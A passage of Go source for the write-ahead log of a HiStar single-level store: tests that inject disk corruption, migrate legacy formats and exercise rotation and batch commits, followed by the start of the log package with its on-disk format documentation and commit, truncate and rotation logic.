	if _, err := d.WriteAt(evil, 16+19+11+19+4); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 1<<20).Recover()
	if !errors.Is(err, ErrCorrupt) {
		t.Fatalf("expected ErrCorrupt, got %v (recs=%d)", err, len(recs))
	}
	if len(recs) != 1 || recs[0].ObjectID != 7 {
		t.Errorf("records before damage should survive: %+v", recs)
	}
}

func TestCorruptRecoverySealsValidPrefix(t *testing.T) {
	l, d := testLog(t, 1<<20)
	l.Append(Record{ObjectID: 1, Data: []byte("keep me")})
	l.Append(Record{ObjectID: 2, Data: []byte("damage me")})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	if _, err := d.WriteAt([]byte{0xff}, 16+19+7+19+2); err != nil {
		t.Fatal(err)
	}
	l2 := Open(d, 0, 1<<20)
	if _, err := l2.Recover(); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("expected ErrCorrupt, got %v", err)
	}
	// The log was resealed to the valid prefix: new commits append after it
	// and a fresh recovery sees prefix + new records with no error.
	l2.Append(Record{ObjectID: 3, Data: []byte("after reseal")})
	if err := l2.Commit(); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 1<<20).Recover()
	if err != nil {
		t.Fatalf("recovery after reseal: %v", err)
	}
	if len(recs) != 2 || recs[0].ObjectID != 1 || recs[1].ObjectID != 3 {
		t.Errorf("recovered %+v", recs)
	}
}

func TestCorruptCommittedLengthRejected(t *testing.T) {
	l, d := testLog(t, 1<<16)
	l.Append(Record{ObjectID: 1, Data: []byte("x")})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	// Scribble an impossible committed length into the header.
	var evil [8]byte
	for i := range evil {
		evil[i] = 0xff
	}
	if _, err := d.WriteAt(evil[:], 8); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 1<<16).Recover()
	if !errors.Is(err, ErrCorrupt) {
		t.Fatalf("expected ErrCorrupt, got %v (%d recs)", err, len(recs))
	}
}

func TestLabelRecordsRoundTrip(t *testing.T) {
	l, d := testLog(t, 1<<20)
	lblBytes := []byte{2, 1, 17, 0, 0, 0, 0, 0, 0, 0, 3} // canonical {17:3} at default 2
	l.Append(Record{ObjectID: 5, Data: []byte("tainted contents"), Label: lblBytes})
	l.Append(Record{ObjectID: 6, Data: []byte("plain contents")})
	l.Append(Record{ObjectID: 5, Delete: true})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 1<<20).Recover()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 {
		t.Fatalf("recovered %d records", len(recs))
	}
	if !bytes.Equal(recs[0].Label, lblBytes) || !bytes.Equal(recs[0].Data, []byte("tainted contents")) {
		t.Errorf("labeled record = %+v", recs[0])
	}
	if recs[1].Label != nil {
		t.Errorf("unlabeled record grew a label: %+v", recs[1])
	}
	if !recs[2].Delete || recs[2].Label != nil {
		t.Errorf("tombstone = %+v", recs[2])
	}
}

// writeV1Log hand-crafts a legacy (version-1, label-less) log image on d.
func writeV1Log(t *testing.T, d *disk.Disk, recs []Record) {
	t.Helper()
	var body []byte
	for _, r := range recs {
		hdr := make([]byte, 17)
		binary.LittleEndian.PutUint64(hdr[0:], r.ObjectID)
		binary.LittleEndian.PutUint32(hdr[8:], uint32(len(r.Data)))
		if r.Delete {
			hdr[12] = 1
		}
		crc := crc32.ChecksumIEEE(append(hdr[:13:13], r.Data...))
		binary.LittleEndian.PutUint32(hdr[13:], crc)
		body = append(body, hdr...)
		body = append(body, r.Data...)
	}
	var hdr [16]byte
	binary.LittleEndian.PutUint64(hdr[0:], 0x48574c4f) // v1 wrote the magic as a u64: version byte reads 0
	binary.LittleEndian.PutUint64(hdr[8:], uint64(len(body)))
	if _, err := d.WriteAt(hdr[:], 0); err != nil {
		t.Fatal(err)
	}
	if _, err := d.WriteAt(body, 16); err != nil {
		t.Fatal(err)
	}
}

func TestV1LogMigratesToCurrentFormat(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 15}, &vclock.Clock{})
	want := []Record{
		{ObjectID: 1, Data: []byte("legacy one")},
		{ObjectID: 2, Delete: true},
		{ObjectID: 3, Data: []byte("legacy three")},
	}
	writeV1Log(t, d, want)

	l := Open(d, 0, 1<<20)
	recs, err := l.Recover()
	if err != nil {
		t.Fatalf("recovering v1 log: %v", err)
	}
	if len(recs) != 3 || !bytes.Equal(recs[0].Data, want[0].Data) || !recs[1].Delete {
		t.Fatalf("recovered %+v", recs)
	}
	// The log was rewritten in the current format: appending labeled records
	// and recovering again decodes everything uniformly as version 2.
	l.Append(Record{ObjectID: 4, Data: []byte("new"), Label: []byte{2, 1, 9, 0, 0, 0, 0, 0, 0, 0, 3}})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	recs, err = Open(d, 0, 1<<20).Recover()
	if err != nil {
		t.Fatalf("recovery after migration: %v", err)
	}
	if len(recs) != 4 || recs[3].ObjectID != 4 || recs[3].Label == nil {
		t.Errorf("post-migration recovery = %+v", recs)
	}
}

func TestRecoverFreshRegion(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 12}, &vclock.Clock{})
	l := Open(d, 0, 1<<16)
	recs, err := l.Recover()
	if err != nil || len(recs) != 0 {
		t.Errorf("fresh region: %d recs, %v", len(recs), err)
	}
}

func TestGroupCommitBatchesManyRecords(t *testing.T) {
	l, _ := testLog(t, 1<<22)
	for i := 0; i < 1000; i++ {
		l.Append(Record{ObjectID: uint64(i), Data: make([]byte, 64)})
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	if st := l.Stats(); st.Commits != 1 || st.Appended != 1000 {
		t.Errorf("commits=%d appended=%d", st.Commits, st.Appended)
	}
}

func TestErrFullKeepsRecordsPendingForRetry(t *testing.T) {
	l, d := testLog(t, 4096)
	// Fill most of the region, then overflow it.
	l.Append(Record{ObjectID: 1, Data: make([]byte, 3000)})
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	l.Append(Record{ObjectID: 2, Data: make([]byte, 2000)})
	if err := l.Commit(); !errors.Is(err, ErrFull) {
		t.Fatalf("overflowing commit: err=%v", err)
	}
	// Truncate (as the store's checkpoint fallback does) and retry WITHOUT
	// re-appending: the pending record commits exactly once.
	if err := l.Truncate(); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 4096).Recover()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 || recs[0].ObjectID != 2 {
		t.Fatalf("after retry: %+v", recs)
	}
}

func TestOversizeRecordRejectedAtAppend(t *testing.T) {
	l, d := testLog(t, 4096)
	// Never-committable records are refused before they enter the pending
	// set, so they can neither wedge the log nor be lost by a concurrent
	// caller's commit.
	if err := l.Append(Record{ObjectID: 1, Data: make([]byte, 64*1024)}); !errors.Is(err, ErrTooLarge) {
		t.Fatalf("oversize data: err=%v, want ErrTooLarge", err)
	}
	if err := l.Append(Record{ObjectID: 3, Label: make([]byte, 70000)}); !errors.Is(err, ErrTooLarge) {
		t.Fatalf("oversize label: err=%v, want ErrTooLarge", err)
	}
	// The log is unaffected: small records commit cleanly.
	if err := l.Append(Record{ObjectID: 2, Data: []byte("fits")}); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 4096).Recover()
	if err != nil || len(recs) != 1 || recs[0].ObjectID != 2 {
		t.Fatalf("recover: %+v, %v", recs, err)
	}
	if st := l.Stats(); st.Appended != 1 {
		t.Errorf("rejected records counted as appended: %d", st.Appended)
	}
}

func TestUnsupportedVersionRefusedWithoutErasure(t *testing.T) {
	l, d := testLog(t, 1<<16)
	if err := l.Append(Record{ObjectID: 1, Data: []byte("future records")}); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	// Pretend a newer format wrote this log: bump the version byte and fix
	// up the header CRC the way the newer code would have.
	setVersion := func(v byte) {
		hdr := make([]byte, logHeaderSize)
		if _, err := d.ReadAt(hdr, 0); err != nil {
			t.Fatal(err)
		}
		hdr[4] = v
		binary.LittleEndian.PutUint32(hdr[16:], crc32.Checksum(hdr[:16], castagnoli))
		if _, err := d.WriteAt(hdr, 0); err != nil {
			t.Fatal(err)
		}
	}
	setVersion(9)
	if _, err := Open(d, 0, 1<<16).Recover(); !errors.Is(err, ErrVersion) {
		t.Fatalf("future version: err=%v, want ErrVersion", err)
	}
	// The region was left byte-for-byte intact: restoring the version byte
	// recovers the records.
	setVersion(logVersion)
	recs, err := Open(d, 0, 1<<16).Recover()
	if err != nil || len(recs) != 1 || string(recs[0].Data) != "future records" {
		t.Fatalf("after restoring version: %+v, %v", recs, err)
	}
}

func TestFlippedVersionByteIsCorruptionNotFutureFormat(t *testing.T) {
	// A bare version-byte flip (without a matching header CRC) is bit rot,
	// not a future format: the log must report ErrCorrupt rather than refuse
	// the mount as ErrVersion.
	l, d := testLog(t, 1<<16)
	if err := l.Append(Record{ObjectID: 1, Data: []byte("x")}); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	if _, err := d.WriteAt([]byte{9}, 4); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(d, 0, 1<<16).Recover(); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("flipped version byte: err=%v, want ErrCorrupt", err)
	}
}

func TestDamagedMagicIsCorruptionNotFresh(t *testing.T) {
	l, d := testLog(t, 1<<16)
	if err := l.Append(Record{ObjectID: 7, Data: []byte("y")}); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	if _, err := d.WriteAt([]byte{0xde}, 1); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 1<<16).Recover()
	if !errors.Is(err, ErrCorrupt) {
		t.Fatalf("rotted magic must be ErrCorrupt, got %v (recs=%d)", err, len(recs))
	}
	// The reseal leaves a mountable empty log.
	recs, err = Open(d, 0, 1<<16).Recover()
	if err != nil || len(recs) != 0 {
		t.Fatalf("after reseal: %d recs, %v", len(recs), err)
	}
}

func TestRotateRetainsOneGenerationBehindMarker(t *testing.T) {
	l, d := testLog(t, 1<<16)
	put := func(id uint64, data string) {
		t.Helper()
		if err := l.Append(Record{ObjectID: id, Data: []byte(data)}); err != nil {
			t.Fatal(err)
		}
		if err := l.Commit(); err != nil {
			t.Fatal(err)
		}
	}
	put(1, "gen one")
	put(2, "gen one too")
	if err := l.Rotate(); err != nil {
		t.Fatal(err)
	}
	put(3, "gen two")

	l2 := Open(d, 0, 1<<16)
	recs, err := l2.Recover()
	if err != nil {
		t.Fatal(err)
	}
	// Full replay sees gen one, the marker, then gen two, in order.
	var ids []uint64
	marks := 0
	for _, r := range recs {
		if r.Mark {
			marks++
			continue
		}
		ids = append(ids, r.ObjectID)
	}
	if marks != 1 || len(ids) != 3 || ids[0] != 1 || ids[1] != 2 || ids[2] != 3 {
		t.Fatalf("recovered ids=%v marks=%d", ids, marks)
	}
	// Normal recovery replays only the current generation.
	cur := recs[l2.RecoveredAfterMark():]
	if len(cur) != 1 || cur[0].ObjectID != 3 {
		t.Fatalf("current generation = %+v", cur)
	}

	// A second rotation drops gen one: only gen two survives the marker.
	if err := l2.Rotate(); err != nil {
		t.Fatal(err)
	}
	l3 := Open(d, 0, 1<<16)
	recs, err = l3.Recover()
	if err != nil {
		t.Fatal(err)
	}
	ids = ids[:0]
	for _, r := range recs {
		if !r.Mark {
			ids = append(ids, r.ObjectID)
		}
	}
	if len(ids) != 1 || ids[0] != 3 {
		t.Fatalf("after second rotation ids=%v", ids)
	}
	if l3.RecoveredAfterMark() != len(recs) {
		t.Fatalf("current generation should be empty, boundary=%d of %d", l3.RecoveredAfterMark(), len(recs))
	}
	if l2.Stats().Rotations != 1 {
		t.Fatalf("rotations = %d", l2.Stats().Rotations)
	}
}

func TestRotateEmptyGenerationTruncates(t *testing.T) {
	l, d := testLog(t, 1<<16)
	if err := l.Append(Record{ObjectID: 1, Data: []byte("z")}); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	if err := l.Rotate(); err != nil {
		t.Fatal(err)
	}
	// Nothing committed since: the second rotation degrades to a truncate.
	if err := l.Rotate(); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 1<<16).Recover()
	if err != nil || len(recs) != 0 {
		t.Fatalf("log should be empty after rotating an empty generation: %d recs, %v", len(recs), err)
	}
}

func TestRotateOversizeGenerationTruncates(t *testing.T) {
	// A generation bigger than half the region is not retained — the log
	// must stay usable for new commits.
	l, d := testLog(t, 1<<12)
	big := make([]byte, 3<<10)
	if err := l.Append(Record{ObjectID: 1, Data: big[:1200]}); err != nil {
		t.Fatal(err)
	}
	if err := l.Append(Record{ObjectID: 2, Data: big[:1200]}); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	if err := l.Rotate(); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 1<<12).Recover()
	if err != nil || len(recs) != 0 {
		t.Fatalf("oversize generation should truncate: %d recs, %v", len(recs), err)
	}
}

func TestAppendBatchCommitsAtomically(t *testing.T) {
	l, d := testLog(t, 1<<20)
	batch := []Record{
		{ObjectID: 1, Data: []byte("batched one")},
		{ObjectID: 2, Data: []byte("batched two"), Label: []byte{2, 0}},
		{ObjectID: 3, Delete: true},
	}
	if err := l.AppendBatch(batch); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	st := l.Stats()
	if st.Commits != 1 || st.Batches != 1 || st.BatchRecords != 3 || st.MaxBatch != 3 {
		t.Errorf("stats = %+v", st)
	}
	recs, err := Open(d, 0, 1<<20).Recover()
	if err != nil || len(recs) != 3 {
		t.Fatalf("recover: %d records, %v", len(recs), err)
	}
	if recs[1].ObjectID != 2 || !bytes.Equal(recs[1].Label, []byte{2, 0}) {
		t.Errorf("batched label record = %+v", recs[1])
	}
	if !recs[2].Delete {
		t.Errorf("batched tombstone = %+v", recs[2])
	}
}

func TestAppendBatchRejectsWholeBatchOnOversizeRecord(t *testing.T) {
	l, _ := testLog(t, 4096)
	batch := []Record{
		{ObjectID: 1, Data: []byte("fits")},
		{ObjectID: 2, Data: make([]byte, 8192)}, // could never commit
	}
	if err := l.AppendBatch(batch); !errors.Is(err, ErrTooLarge) {
		t.Fatalf("oversize batch: err=%v", err)
	}
	if n := l.PendingBytes(); n != 0 {
		t.Errorf("rejected batch left %d pending bytes", n)
	}
	if st := l.Stats(); st.Appended != 0 || st.Batches != 0 {
		t.Errorf("rejected batch counted: %+v", st)
	}
}

func TestDropPendingDiscardsUncommittedRecords(t *testing.T) {
	l, d := testLog(t, 1<<20)
	if err := l.Append(Record{ObjectID: 1, Data: []byte("committed")}); err != nil {
		t.Fatal(err)
	}
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	if err := l.AppendBatch([]Record{{ObjectID: 2, Data: []byte("abandoned")}}); err != nil {
		t.Fatal(err)
	}
	l.DropPending()
	if err := l.Commit(); err != nil {
		t.Fatal(err)
	}
	recs, err := Open(d, 0, 1<<20).Recover()
	if err != nil || len(recs) != 1 || recs[0].ObjectID != 1 {
		t.Fatalf("recover after drop: %+v, %v", recs, err)
	}
}
