// Package wal implements the write-ahead log the HiStar single-level store
// uses for crash consistency (Section 4): synchronous updates are queued in
// a sequential on-disk log and applied to their home locations in batches.
// Records are logical — an object ID plus its new contents (or a tombstone)
// — so recovery does not depend on the physical layout chosen later by the
// extent allocator.
//
// # On-disk format
//
// The log occupies a fixed region of the disk.  It starts with a 32-byte
// version-4 header:
//
//	off  size  field
//	0    4     magic "HWLO" (0x48574c4f, little endian)
//	4    1     format version (4; 3, 2 and 0 identify older formats)
//	5    3     reserved (zero)
//	8    8     committed length: bytes of records after the header,
//	           including any reclaimed (dead) prefix
//	16   4     CRC-32C of header bytes 0..15
//	20   8     start offset: bytes after the header where the live records
//	           begin (records before it were reclaimed by an epoch
//	           checkpoint and are no longer replayed)
//	28   4     CRC-32C of header bytes 20..27
//
// The header CRCs make silent bit rot in the magic, version, committed
// length, or start offset detectable: an all-zero header is a fresh region,
// anything else that fails its checks is ErrCorrupt — never silently
// treated as empty.
//
// Committed records follow back to back.  A record is:
//
//	off  size  field
//	0    8     object ID
//	8    4     data length
//	12   2     label length (0 when the object carries no label)
//	14   1     flags: bit 0 = tombstone, bit 1 = label present,
//	           bit 2 = generation marker, bit 3 = clone alias,
//	           bit 4 = snapshot-bundle metadata
//	15   4     CRC-32 (IEEE) of bytes 0..15 plus the label and data bytes
//	19   ...   canonical serialized label (label.AppendBinary), then data
//
// A clone record (bit 3) does not carry the object's contents: its data is a
// small store-defined payload describing which committed extent the new
// object aliases (the store's snapshot-bundle clone path), and its label is
// the clone's own label.  A bundle record (bit 4) carries a store-defined
// serialization of a whole snapshot bundle in its data, keyed by the bundle's
// lineage ID in the object-ID field.  The log treats both payloads as opaque
// bytes under the record CRC; clone/bundle records cannot combine with each
// other or with tombstones or markers.
//
// A generation marker (bit 2, no data, no label) closes a checkpoint
// generation.  The store's incremental checkpoint seals one with AppendMark,
// reusing the object-ID field to carry the epoch of the metadata snapshot
// the marker opens; Rotate's legacy markers carry epoch 0.  Records before
// the last marker for the mounted snapshot's epoch belong to previous
// generations and are retained only so the store can fall back to its older
// metadata snapshot and replay them forward if the newer snapshot is
// corrupt on disk (see ReplayStart).  ReclaimBefore drops generations the
// fallback can no longer need by advancing the start offset — a single
// crash-atomic header write, no record bytes move — and compacts the region
// physically only when the live suffix fits entirely inside the dead
// prefix, so a torn compaction can never damage records the header still
// references.
//
// Version-3 logs had the same record format but no start offset; version-2
// logs had a 16-byte header with no CRC; version-1 records additionally had
// no label length or label bytes and packed the delete flag at offset 12
// with the CRC at 13.  Recover still decodes all three and transparently
// rewrites them in version-4 format.
//
// Commit appends the encoded records, then updates the header's committed
// length and flushes; the header update is what makes the batch durable.
// Recovery trusts only the committed prefix, verifies every record's CRC,
// and — per the contract FuzzRecover enforces — never panics on arbitrary
// log bytes: damage yields ErrCorrupt along with every record before the
// damage, and the log is resealed to that valid prefix so later commits
// append after it.  A version byte naming a future format (with an intact
// header CRC) is refused with ErrVersion and the region left untouched;
// records that could never commit at all are rejected at Append time with
// ErrTooLarge.
package wal

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"sync"

	"histar/internal/disk"
)

// Record is one logged update: the full new contents of an object (plus its
// canonical serialized information-flow label, when it has one), or its
// deletion.
type Record struct {
	ObjectID uint64
	Data     []byte
	// Label is the object's canonical serialized label (label.AppendBinary),
	// or nil for an unlabeled object.  The log treats it as opaque bytes
	// covered by the record CRC; the store decodes it on replay.
	Label  []byte
	Delete bool
	// Mark identifies a generation marker written by Rotate: not an object
	// update at all, just the boundary between checkpoint generations.
	// Replay loops must skip marker records.
	Mark bool
	// Clone marks a clone-alias record: Data is the store's description of
	// the committed extent the object aliases (not object contents), and
	// Label is the clone's label.
	Clone bool
	// Bundle marks a snapshot-bundle metadata record: ObjectID is the
	// bundle's lineage ID and Data its serialized metadata.
	Bundle bool
}

// Errors returned by the log.
var (
	// ErrFull is returned when a commit would overflow the log region; the
	// buffered records stay pending, so the caller can apply (checkpoint),
	// truncate, and simply Commit again — re-appending would duplicate them.
	ErrFull = errors.New("wal: log region full")
	// ErrTooLarge is returned by Append for a record that could never
	// commit: it would not fit even in an empty log region, or its label
	// exceeds the record format's 16-bit label-length field.  The record is
	// not buffered — no truncation could help — and the caller must fall
	// back to a checkpoint for its durability.
	ErrTooLarge = errors.New("wal: record exceeds log capacity")
	// ErrCorrupt is returned when recovery encounters a damaged record; all
	// records before the damage are still returned.
	ErrCorrupt = errors.New("wal: corrupt record")
	// ErrVersion is returned when recovery meets a log written by an
	// unknown (newer) format version; the region is left untouched so the
	// newer code can still mount it.
	ErrVersion = errors.New("wal: unsupported log format version")
)

const (
	recHeaderV1Size = 8 + 4 + 1 + 4     // id, length, delete flag, crc
	recHeaderSize   = 8 + 4 + 2 + 1 + 4 // id, data len, label len, flags, crc
	logHeaderV2Size = 16                // v1/v2: magic + version + committed length
	logHeaderSize   = 32                // v3: adds header CRC; v4: adds start offset
	logMagic        = 0x48574c4f        // "HWLO"
	logVersion      = 4

	flagDelete   = 1 << 0
	flagHasLabel = 1 << 1
	flagMark     = 1 << 2
	flagClone    = 1 << 3
	flagBundle   = 1 << 4
)

var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// Log is a redo log occupying a fixed region of the disk.  It is safe for
// concurrent use.
type Log struct {
	mu    sync.Mutex
	d     disk.Device
	start int64
	size  int64

	pending  []Record // appended but not yet committed
	tail     int64    // next write offset within the region (after header)
	commits  uint64
	applies  uint64
	appended uint64

	// Batch counters: AppendBatch calls, records appended through them,
	// their encoded bytes, and the largest single batch — the group-commit
	// tests assert commits stay below syncs using these.
	batches      uint64
	batchRecords uint64
	batchBytes   uint64
	maxBatch     int

	// recoveredLegacy records that Recover migrated a version-1 log, whose
	// records carry no label information (as opposed to a version-2 record
	// without a label, which asserts the object had none).
	recoveredLegacy bool

	// markOff is the byte offset (relative to the body start) just past the
	// last generation marker in the committed prefix; 0 when none.  Records
	// before it belong to the previous checkpoint generation.
	markOff int64
	// markIdx is the index into the slice the last Recover returned of the
	// first record after the last generation marker (0 when none).
	markIdx int
	// rotations counts Rotate calls that retained a previous generation.
	rotations uint64

	// reclaimOff is the body offset where the live records begin (the
	// header's start-offset field): everything before it has been reclaimed
	// by ReclaimBefore but not yet physically compacted away.
	reclaimOff int64
	// markOffs maps a marker epoch (its object-ID field) to the body offset
	// where the LAST marker carrying that epoch starts.  ReclaimBefore uses
	// it to find the reclaim boundary; AppendMark and Recover maintain it.
	markOffs map[uint64]int64
	// markIdxs maps a marker epoch to the index into the slice the last
	// Recover returned of the first record after the last marker carrying
	// that epoch (see ReplayStart).  Unlike markOffs it is only meaningful
	// until the recovered slice goes stale.
	markIdxs map[uint64]int
	// reclaims counts ReclaimBefore calls that advanced the start offset;
	// compactions counts physical compactions of the dead prefix.
	reclaims    uint64
	compactions uint64
}

// New creates a log over the region [start, start+size) of d and writes a
// fresh header.  Any previous log contents are discarded.
func New(d disk.Device, start, size int64) (*Log, error) {
	l := &Log{d: d, start: start, size: size, tail: logHeaderSize}
	if err := l.writeHeader(0, 0); err != nil {
		return nil, err
	}
	return l, nil
}

// Open attaches to an existing log region without erasing it; use Recover to
// read back committed records after a crash.
func Open(d disk.Device, start, size int64) *Log {
	return &Log{d: d, start: start, size: size, tail: logHeaderSize}
}

func (l *Log) writeHeader(committedBytes, startOff int64) error {
	var hdr [logHeaderSize]byte
	binary.LittleEndian.PutUint32(hdr[0:], logMagic)
	hdr[4] = logVersion
	binary.LittleEndian.PutUint64(hdr[8:], uint64(committedBytes))
	binary.LittleEndian.PutUint32(hdr[16:], crc32.Checksum(hdr[:16], castagnoli))
	binary.LittleEndian.PutUint64(hdr[20:], uint64(startOff))
	binary.LittleEndian.PutUint32(hdr[28:], crc32.Checksum(hdr[20:28], castagnoli))
	if _, err := l.d.WriteAt(hdr[:], l.start); err != nil {
		return err
	}
	return l.d.Flush()
}

// Append buffers a record for the next Commit.  A record that could never
// commit (see ErrTooLarge) is rejected here, before it enters the shared
// pending set, so it can neither wedge the log nor be silently lost by a
// concurrent caller's commit.
func (l *Log) Append(r Record) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.tooLarge(r) {
		return ErrTooLarge
	}
	l.appendLocked(r)
	return nil
}

// AppendBatch buffers a whole batch of records for the next Commit, as one
// all-or-nothing operation: if any record could never commit (see
// ErrTooLarge), none of the batch is buffered.  One AppendBatch plus one
// Commit is the group-commit fast path — many syncers' records become
// durable with a single sequential write and flush.
func (l *Log) AppendBatch(recs []Record) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, r := range recs {
		if l.tooLarge(r) {
			return ErrTooLarge
		}
	}
	for _, r := range recs {
		l.appendLocked(r)
		l.batchBytes += uint64(r.EncodedSize())
	}
	l.batches++
	l.batchRecords += uint64(len(recs))
	if len(recs) > l.maxBatch {
		l.maxBatch = len(recs)
	}
	return nil
}

// DropPending discards all buffered (uncommitted) records.  The group
// committer uses it when a full log forces the checkpoint fallback: the
// checkpoint makes a state at least as new as every sealed record durable,
// so committing the stale records afterwards could only regress objects.
func (l *Log) DropPending() {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.pending = l.pending[:0]
}

// TooLarge reports whether r could never commit even in an empty log region
// (the ErrTooLarge criterion), letting callers pre-check before sealing a
// record into a shared batch.
func (l *Log) TooLarge(r Record) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.tooLarge(r)
}

func (l *Log) tooLarge(r Record) bool {
	return encodedSize(r) > l.size-logHeaderSize || len(r.Label) > 0xffff
}

// appendLocked buffers one pre-validated record; the caller holds l.mu.
func (l *Log) appendLocked(r Record) {
	r.Data = append([]byte(nil), r.Data...)
	r.Label = append([]byte(nil), r.Label...)
	l.pending = append(l.pending, r)
	l.appended++
}

// encodedSize returns the on-disk size of one record.
func encodedSize(r Record) int64 {
	return recHeaderSize + int64(len(r.Label)) + int64(len(r.Data))
}

// EncodedSize returns the record's on-disk size, letting callers bound the
// byte size of a group-commit batch before appending it.
func (r Record) EncodedSize() int64 { return encodedSize(r) }

// PendingBytes returns the encoded size of buffered (uncommitted) records.
func (l *Log) PendingBytes() int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	var n int64
	for _, r := range l.pending {
		n += encodedSize(r)
	}
	return n
}

// CommittedBytes returns how much of the log region holds committed records.
func (l *Log) CommittedBytes() int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.tail - logHeaderSize
}

// Commit durably appends all buffered records to the log: a sequential write
// into the log region followed by a header update and flush.  After Commit
// returns nil, the records will survive a crash and be returned by Recover.
// On ErrFull the records stay pending for a retry after a truncate.
func (l *Log) Commit() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.commitLocked()
}

func (l *Log) commitLocked() error {
	if len(l.pending) == 0 {
		return nil
	}
	buf := encodeRecords(l.pending)
	if l.tail+int64(len(buf)) > l.size {
		// A reclaimed-but-uncompacted prefix may be holding the space this
		// commit needs; compact it away before giving up.
		if err := l.compactLocked(); err != nil {
			return err
		}
		if l.tail+int64(len(buf)) > l.size {
			return ErrFull
		}
	}
	if _, err := l.d.WriteAt(buf, l.start+l.tail); err != nil {
		return err
	}
	newTail := l.tail + int64(len(buf))
	// Header update makes the newly appended records part of the committed
	// prefix; the flush inside writeHeader orders both.
	if err := l.writeHeader(newTail-logHeaderSize, l.reclaimOff); err != nil {
		return err
	}
	l.tail = newTail
	l.pending = l.pending[:0]
	l.commits++
	return nil
}

// Truncate discards the committed log contents, typically after the caller
// has applied them to their home locations and checkpointed its metadata.
func (l *Log) Truncate() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.truncateLocked()
}

func (l *Log) truncateLocked() error {
	if err := l.writeHeader(0, 0); err != nil {
		return err
	}
	l.tail = logHeaderSize
	l.markOff = 0
	l.reclaimOff = 0
	l.markOffs = nil
	l.applies++
	return nil
}

// Rotate seals the current checkpoint generation instead of discarding it:
// the records committed since the previous rotation are kept (shifted to the
// front of the region) and closed with a generation marker, so that if the
// metadata snapshot the caller just wrote later fails its checksums, the
// store can fall back to the older snapshot and replay this generation
// forward — zero committed-sync loss.  Normal recovery replays only records
// after the marker (see RecoveredAfterMark).
//
// The shuffle is crash-safe: the header is zeroed (and flushed) before any
// record bytes move, so a crash mid-rotation recovers as an empty log — safe
// because the checkpoint that precedes Rotate already made every sealed
// record's state durable.  When the retained generation would occupy more
// than half the region (starving future commits), or when it is empty,
// Rotate degrades to a plain truncate.
func (l *Log) Rotate() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	genLen := l.tail - logHeaderSize - l.markOff
	marker := encodeRecords([]Record{{Mark: true}})
	if genLen <= 0 || genLen+int64(len(marker)) > l.size/2 {
		return l.truncateLocked()
	}
	gen := make([]byte, genLen)
	if _, err := l.d.ReadAt(gen, l.start+logHeaderSize+l.markOff); err != nil {
		return err
	}
	// Invalidate before moving bytes: a torn shuffle must never be read back
	// as a valid committed prefix.
	if err := l.writeHeader(0, 0); err != nil {
		return err
	}
	body := append(gen, marker...)
	if _, err := l.d.WriteAt(body, l.start+logHeaderSize); err != nil {
		return err
	}
	if err := l.writeHeader(int64(len(body)), 0); err != nil {
		return err
	}
	l.tail = logHeaderSize + int64(len(body))
	l.markOff = int64(len(body))
	l.reclaimOff = 0
	l.markOffs = map[uint64]int64{0: genLen}
	l.applies++
	l.rotations++
	return nil
}

// AppendMark durably appends a generation marker carrying epoch in its
// object-ID field, committing it (and any pending records) in one batch.
// The store's incremental checkpoint calls it at seal time: records before
// this marker belong to generations the snapshot named by epoch subsumes.
// On ErrFull the marker is dropped from the pending set (unlike data
// records, a marker is trivially re-created on retry) so a later group
// commit cannot smuggle in a stale seal boundary.
func (l *Log) AppendMark(epoch uint64) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.appendLocked(Record{ObjectID: epoch, Mark: true})
	if err := l.commitLocked(); err != nil {
		l.pending = l.pending[:len(l.pending)-1]
		return err
	}
	markStart := l.tail - logHeaderSize - recHeaderSize
	if l.markOffs == nil {
		l.markOffs = make(map[uint64]int64)
	}
	l.markOffs[epoch] = markStart
	l.markOff = markStart + recHeaderSize
	return nil
}

// ReclaimBefore drops every record before the last generation marker
// carrying epoch: a single crash-atomic header write advances the start
// offset to the marker (the marker itself is retained so recovery can still
// find the generation boundary), then the region is physically compacted if
